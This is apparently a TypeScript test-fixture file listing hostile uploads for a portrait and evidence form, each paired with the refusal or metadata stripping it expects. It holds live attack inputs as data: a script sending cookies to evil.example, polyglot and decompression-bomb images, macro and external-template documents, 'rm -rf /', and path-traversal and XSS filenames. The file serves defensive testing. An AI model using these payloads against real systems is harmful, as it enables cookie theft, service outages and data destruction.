/** Files that attackers and broken phones send, made by code. Each says what must become of it. */
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { AUTHOR, doc, docx, EXIF, jpeg, part, pdf, picture, png } from './sample-files.ts'

export interface HostileFile {
  readonly title: string
  readonly field: 'wldProfile' | 'report1'
  readonly name: string
  readonly type: string
  make(): Buffer | Promise<Buffer>
  /** The refusal, or `disarmed`: accepted, and what is served holds none of `mustVanish` and is no copy of it. */
  readonly becomes: 'disarmed' | { readonly status: 413 | 415 | 422; readonly cause: string }
  /** The same bytes as evidence in parts, where that way answers otherwise. */
  readonly inParts?: HostileFile['becomes']
  /** Texts that must not be in what is served, in whatever encoding they were sent. */
  readonly mustVanish?: readonly string[]
}

const WRONG_TYPE = { status: 415, cause: 'wrong_type' } as const
const ACTIVE = { status: 415, cause: 'active_content' } as const
const DAMAGED = { status: 422, cause: 'damaged_file' } as const

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${SCRIPT}<rect width="10" height="10"/></svg>`
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`
const JPEG_MAGIC = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0])
const text = (content: string) => (): Buffer => Buffer.from(content)
const bytes =
  (hex: string, more = '') =>
  (): Buffer =>
    Buffer.concat([Buffer.from(hex, 'hex'), Buffer.from(more)])
const cut = async (whole: Promise<Buffer>, share = 0.5): Promise<Buffer> => {
  const all = await whole
  return all.subarray(0, Math.floor(all.length * share))
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const head = Buffer.alloc(4)
  head.writeUInt32BE(data.length)
  const check = Buffer.alloc(4)
  check.writeUInt32BE(crc32(body))
  return Buffer.concat([head, body, check])
}
const PNG_SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex')

/** A grey PNG of one bit a pixel: 20,000 x 20,000 of them pack into 50 KB. */
function plainPng(
  width: number,
  height: number,
  extra: readonly Buffer[] = [],
  rows = height,
): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 1
  const pixels = deflateSync(Buffer.alloc(rows * (1 + Math.ceil(width / 8))))
  return Buffer.concat([
    PNG_SIGNATURE,
    chunk('IHDR', header),
    ...extra,
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** Puts a segment behind the first two bytes of a JPEG. */
async function jpegWith(marker: number, data: Buffer): Promise<Buffer> {
  const whole = await jpeg()
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(data.length + 2, 2)
  return Buffer.concat([whole.subarray(0, 2), head, data, whole.subarray(2)])
}

/** An ICC profile in as many segments as a file of 4 MB holds. */
async function jpegWithProfile(): Promise<Buffer> {
  const whole = await jpeg()
  const segments = Array.from({ length: 60 }, (_, index) => {
    const data = Buffer.concat([
      Buffer.from('ICC_PROFILE\0'),
      Buffer.from([index + 1, 60]),
      Buffer.alloc(65_000, 0x41),
    ])
    const head = Buffer.from([0xff, 0xe2, 0, 0])
    head.writeUInt16BE(data.length + 2, 2)
    return Buffer.concat([head, data])
  })
  return Buffer.concat([whole.subarray(0, 2), ...segments, whole.subarray(2)])
}

async function animatedGif(): Promise<Buffer> {
  const frames = await Promise.all(Array.from({ length: 5 }, () => png(64, 64)))
  return sharp(frames, { join: { animated: true } })
    .gif()
    .toBuffer()
}

const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes * 1024 * 1024)
const rels = (type: string, target: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml'

/** PDF 1.5: the information about the document lies in a packed object stream. */
function packedPdf(): Buffer {
  const objects = deflateSync(
    Buffer.from(`9 0 << /Author (${AUTHOR} \\(inner\\) name) /Producer <FEFF0041> >>`),
  )
  const stream = `8 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${objects.length} >>\nstream\n${objects.toString('latin1')}\nendstream\nendobj\n`
  return Buffer.from(`%PDF-1.5\n${stream}trailer\n<< /Root 1 0 R /Info 9 0 R >>\n%%EOF\n`, 'latin1')
}

const portrait = (
  title: string,
  becomes: HostileFile['becomes'],
  make: HostileFile['make'],
  more: Partial<HostileFile> = {},
): HostileFile => ({
  title,
  field: 'wldProfile',
  name: 'me.jpg',
  type: 'image/jpeg',
  make,
  becomes,
  ...more,
})
const evidence = (
  title: string,
  becomes: HostileFile['becomes'],
  make: HostileFile['make'],
  more: Partial<HostileFile> = {},
): HostileFile => ({
  title,
  field: 'report1',
  name: 'statement.docx',
  type: 'application/octet-stream',
  make,
  becomes,
  ...more,
})

export const HOSTILE_FILES: readonly HostileFile[] = [
  portrait('SVG', WRONG_TYPE, text(SVG), { name: 'me.svg', type: 'image/svg+xml' }),
  portrait('SVG named .jpg', WRONG_TYPE, text(SVG)),
  portrait(
    'SVG behind a declaration and a comment',
    WRONG_TYPE,
    text(`<?xml version="1.0"?><!-- ${'x'.repeat(500)} -->${SVG}`),
  ),
  portrait('HTML named .jpg', WRONG_TYPE, text(HTML)),
  portrait('HTML behind the first bytes of a JPEG', DAMAGED, () =>
    Buffer.concat([JPEG_MAGIC, Buffer.from(HTML)]),
  ),
  portrait('HTML behind the first bytes of a GIF', DAMAGED, text(`GIF89a/*${HTML}*/=1;`)),
  portrait(
    'a JPEG that is a script as well',
    'disarmed',
    () => jpegWith(0xfe, Buffer.from(`*/=alert(1);/*${SCRIPT}`)),
    { mustVanish: ['<script>', 'alert(1)'] },
  ),
  portrait(
    'a JPEG with an archive behind it',
    'disarmed',
    async () => Buffer.concat([await jpeg(), await docx()]),
    { mustVanish: ['PK\x03\x04', 'word/document.xml'] },
  ),
  portrait(
    'a GIF with an archive behind it (GIFAR)',
    'disarmed',
    async () => Buffer.concat([await picture(64, 64).gif().toBuffer(), await docx()]),
    { name: 'me.gif', type: 'image/gif', mustVanish: ['PK\x03\x04'] },
  ),
  portrait(
    'a PNG of 20,000 x 20,000 pixels in 50 KB',
    { status: 422, cause: 'too_many_pixels' },
    () => plainPng(20_000, 20_000),
  ),
  portrait('a PNG that says it is 2,000,000,000 pixels wide', DAMAGED, () =>
    plainPng(2_000_000_000, 1, [], 0),
  ),
  portrait('a PNG with less in it than it says', DAMAGED, () => plainPng(5_000, 5_000, [], 3)),
  portrait('a JPEG cut off', DAMAGED, () => cut(jpeg())),
  portrait('a PNG cut off', DAMAGED, () => cut(png())),
  portrait('a WebP cut off', DAMAGED, () => cut(picture().webp().toBuffer())),
  portrait('a GIF cut off', DAMAGED, () => cut(picture().gif().toBuffer())),
  portrait('no bytes at all', { status: 422, cause: 'empty_file' }, () => Buffer.alloc(0), {
    inParts: { status: 422, cause: 'too_small' },
  }),
  portrait('one byte', WRONG_TYPE, bytes('ff')),
  portrait(
    'a JPEG with camera and place in EXIF',
    'disarmed',
    () => picture().jpeg().withExif(EXIF).toBuffer(),
    { mustVanish: ['Exif', 'Secret-Place'] },
  ),
  portrait(
    'a PNG with EXIF and text',
    'disarmed',
    async () => picture().png().withExif(EXIF).toBuffer(),
    { mustVanish: ['Secret-Place', 'eXIf'] },
  ),
  portrait('a WebP with EXIF', 'disarmed', () => picture().webp().withExif(EXIF).toBuffer(), {
    mustVanish: ['Secret-Place', 'EXIF'],
  }),
  portrait(
    'a JPEG with XMP',
    'disarmed',
    () =>
      jpegWith(
        0xe1,
        Buffer.from('http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>Secret-Place</x:xmpmeta>'),
      ),
    { mustVanish: ['Secret-Place'] },
  ),
  portrait('a JPEG with four megabytes of colour profile', 'disarmed', jpegWithProfile, {
    mustVanish: ['ICC_PROFILE', 'AAAAAAAA'],
  }),
  portrait(
    'a PNG whose colour profile unpacks to 200 MB',
    'disarmed',
    () =>
      plainPng(64, 64, [
        chunk('iCCP', Buffer.concat([Buffer.from('p\0\0'), deflateSync(zeros(200))])),
      ]),
    { mustVanish: ['iCCP'] },
  ),
  portrait(
    'a PNG whose text unpacks to 200 MB',
    'disarmed',
    () =>
      plainPng(64, 64, [
        chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(zeros(200))])),
      ]),
    { mustVanish: ['zTXt', 'Comment'] },
  ),
  portrait(
    'a PNG with script in its text',
    'disarmed',
    () => plainPng(64, 64, [chunk('tEXt', Buffer.from(`Comment\0${SCRIPT}`))]),
    { mustVanish: ['<script>'] },
  ),
  portrait('an animated GIF', 'disarmed', animatedGif, {
    name: 'me.gif',
    type: 'image/gif',
    mustVanish: ['NETSCAPE2.0'],
  }),
  portrait('TIFF', WRONG_TYPE, () => picture(64, 64).tiff().toBuffer()),
  portrait('AVIF', WRONG_TYPE, () => picture(64, 64).avif().toBuffer()),
  portrait('HEIC', WRONG_TYPE, bytes('0000001866747970686569630000000068656963', 'x'.repeat(200)), {
    name: 'IMG_1.HEIC',
    type: 'image/heic',
  }),
  portrait(
    'BMP',
    WRONG_TYPE,
    bytes('424d460000000000000036000000280000000200000002000000010018', '\0'.repeat(60)),
  ),
  portrait(
    'an icon',
    WRONG_TYPE,
    bytes('00000100010010100000010020006804000016000000', '\0'.repeat(60)),
  ),
  portrait('a PDF named .png', WRONG_TYPE, () => pdf(), {
    name: 'id.png',
    type: 'image/png',
    inParts: 'disarmed',
  }),
  portrait(
    'a Word document as portrait',
    WRONG_TYPE,
    () => docx([part('docProps/core.xml', `<dc:creator>${AUTHOR}</dc:creator>`)]),
    { inParts: 'disarmed' },
  ),
  portrait('more than 5 MB', { status: 413, cause: 'too_large' }, async () =>
    Buffer.concat([await jpeg(), zeros(5)]),
  ),
  evidence(
    'a picture of more than 5 MB as evidence',
    { status: 413, cause: 'too_large' },
    async () => Buffer.concat([await jpeg(), zeros(5)]),
  ),
  evidence('more than 20 MB', { status: 413, cause: 'too_large' }, () =>
    Buffer.concat([pdf(), zeros(20)]),
  ),
  evidence('SVG as evidence', WRONG_TYPE, text(SVG), { name: 'map.svg', type: 'image/svg+xml' }),
  evidence('HTML named .pdf', WRONG_TYPE, text(HTML), { name: 'a.pdf', type: 'application/pdf' }),
  evidence('HTML behind the first bytes of a PDF', DAMAGED, text(`%PDF-1.7\n${HTML}`), {
    name: 'a.pdf',
    type: 'application/pdf',
  }),
  evidence('a PDF behind a tag of an MP3', WRONG_TYPE, () =>
    Buffer.concat([Buffer.from('ID3\x03\0\0\0\0\0\x0a'), Buffer.alloc(10), pdf()]),
  ),
  evidence('a locked PDF', { status: 422, cause: 'protected_file' }, () =>
    Buffer.from(pdf().toString('latin1').replace('/Info', '/Encrypt 9 0 R /Info'), 'latin1'),
  ),
  evidence(
    'a PDF with author, XMP and a photo with its place',
    'disarmed',
    async () =>
      pdf(
        `/Author (${AUTHOR}) /Creator <${Buffer.from(AUTHOR).toString('hex')}>`,
        `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta>${AUTHOR}</x:xmpmeta><?xpacket end="w"?>${(await picture(64, 64).jpeg().withExif(EXIF).toBuffer()).toString('latin1')}`,
      ),
    { name: 'a.pdf', mustVanish: [AUTHOR, Buffer.from(AUTHOR).toString('hex'), 'Secret-Place'] },
  ),
  evidence('a PDF with its author in a packed object', 'disarmed', packedPdf, {
    name: 'a.pdf',
    mustVanish: [AUTHOR],
  }),
  evidence('a Word document with macros (docm)', WRONG_TYPE, () =>
    docx([part('word/vbaProject.bin', 'Attribute VB_Name')], MACRO_TYPE),
  ),
  evidence('macros in a document that says it has none', ACTIVE, () =>
    docx([part('word/vbaProject.bin', 'Attribute VB_Name')]),
  ),
  evidence('a document with a control', ACTIVE, () =>
    docx([part('word/activeX/activeX1.xml', '<ax/>')]),
  ),
  evidence('a document whose template lies elsewhere', ACTIVE, () =>
    docx([
      part('word/_rels/settings.xml.rels', rels('attachedTemplate', 'https://evil.example/t.dotm')),
    ]),
  ),
  evidence('a document whose picture lies elsewhere', ACTIVE, () =>
    docx([
      part(
        'word/_rels/document.xml.rels',
        rels('image', 'https://evil.example/who-reads-this.png'),
      ),
    ]),
  ),
  evidence('a document that hides that in character references', ACTIVE, () =>
    docx([
      part(
        'word/_rels/document.xml.rels',
        rels('image', 'https://evil.example/').replace('External', 'Ext&#101;rnal'),
      ),
    ]),
  ),
  evidence('a document with a document type', DAMAGED, () =>
    docx([part('word/settings.xml', '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')]),
  ),
  evidence(
    'a document with author, comments and a photo with its place',
    'disarmed',
    async () =>
      docx([
        part(
          'docProps/core.xml',
          `<cp:coreProperties><dc:creator>${AUTHOR}</dc:creator></cp:coreProperties>`,
        ),
        part(
          'word/comments.xml',
          `<w:comments><w:comment w:author="${AUTHOR}" w:initials='RN'/></w:comments>`,
        ),
        part('word/media/image1.jpeg', await picture(64, 64).jpeg().withExif(EXIF).toBuffer()),
      ]),
    { mustVanish: [AUTHOR, 'Secret-Place'] },
  ),
  evidence('an archive renamed .docx', WRONG_TYPE, async () =>
    Buffer.from(
      (await docx())
        .toString('latin1')
        .replaceAll('[Content_Types].xml', '[Content_Tipes].xml')
        .replaceAll('word/', 'text/'),
      'latin1',
    ),
  ),
  evidence('a document that unpacks to 300 MB', DAMAGED, () =>
    docx([part('word/media/image1.bmp', zeros(150)), part('word/media/image2.bmp', zeros(150))]),
  ),
  evidence('a document that lies about what it unpacks to', DAMAGED, async () => {
    const archive = await docx([part('word/big.xml', zeros(50))])
    const at = archive.lastIndexOf('word/big.xml') - 46
    archive.writeUInt32LE(10, at + 24)
    return archive
  }),
  evidence('a document cut off', DAMAGED, () => cut(docx(), 0.8)),
  evidence('RTF named .doc', WRONG_TYPE, text(String.raw`{\rtf1\ansi{\object\objdata 0105}}`), {
    name: 'a.doc',
    type: 'application/msword',
  }),
  evidence(
    'an old Word document with macros',
    ACTIVE,
    () => doc(['WordDocument', 'Macros', '_VBA_PROJECT']),
    { name: 'a.doc' },
  ),
  evidence('an old Word document with its author', 'disarmed', () => doc(), {
    name: 'a.doc',
    mustVanish: [AUTHOR],
  }),
  evidence('an installer in the container of old Word', WRONG_TYPE, () => doc(['Installer']), {
    name: 'a.doc',
  }),
  evidence(
    'a Linux program',
    WRONG_TYPE,
    bytes('7f454c460201010000000000000000000200', '\0'.repeat(100)),
    { name: 'a.pdf' },
  ),
  evidence(
    'a Windows program',
    WRONG_TYPE,
    bytes('4d5a90000300000004000000ffff0000', '\0'.repeat(100)),
    { name: 'a.doc' },
  ),
  evidence('a shell script', WRONG_TYPE, text('#!/bin/sh\nrm -rf /\n'), { name: 'a.pdf' }),
  evidence(
    'the head of a film',
    WRONG_TYPE,
    bytes('000000206674797069736f6d0000020069736f6d69736f32', '\0'.repeat(100)),
    { name: 'a.jpg', inParts: DAMAGED },
  ),
  evidence('plain text', WRONG_TYPE, text('It happened at noon.'), { name: 'a.doc' }),
]

/** Names that a file may come with, and what is kept of each. */
export const HOSTILE_NAMES: readonly { readonly sent: string; readonly kept: string }[] = [
  { sent: '../../../etc/passwd.jpg', kept: 'passwd.jpg' },
  { sent: String.raw`..\..\windows\system32\me.jpg`, kept: 'me.jpg' },
  { sent: '/absolute/me.jpg', kept: 'me.jpg' },
  { sent: 'me\u202egpj.exe', kept: 'megpj.exe' },
  { sent: 'a\u200bb\u2066c\u2069.jpg', kept: 'abc.jpg' },
  { sent: `${'x'.repeat(500)}.jpg`, kept: 'x'.repeat(120) },
  { sent: 'صورتي الشخصية.jpg', kept: 'صورتي الشخصية.jpg' },
  { sent: '..', kept: 'file' },
  { sent: '<img src=x onerror=alert(1)>.jpg', kept: '<img src=x onerror=alert(1)>.jpg' },
]
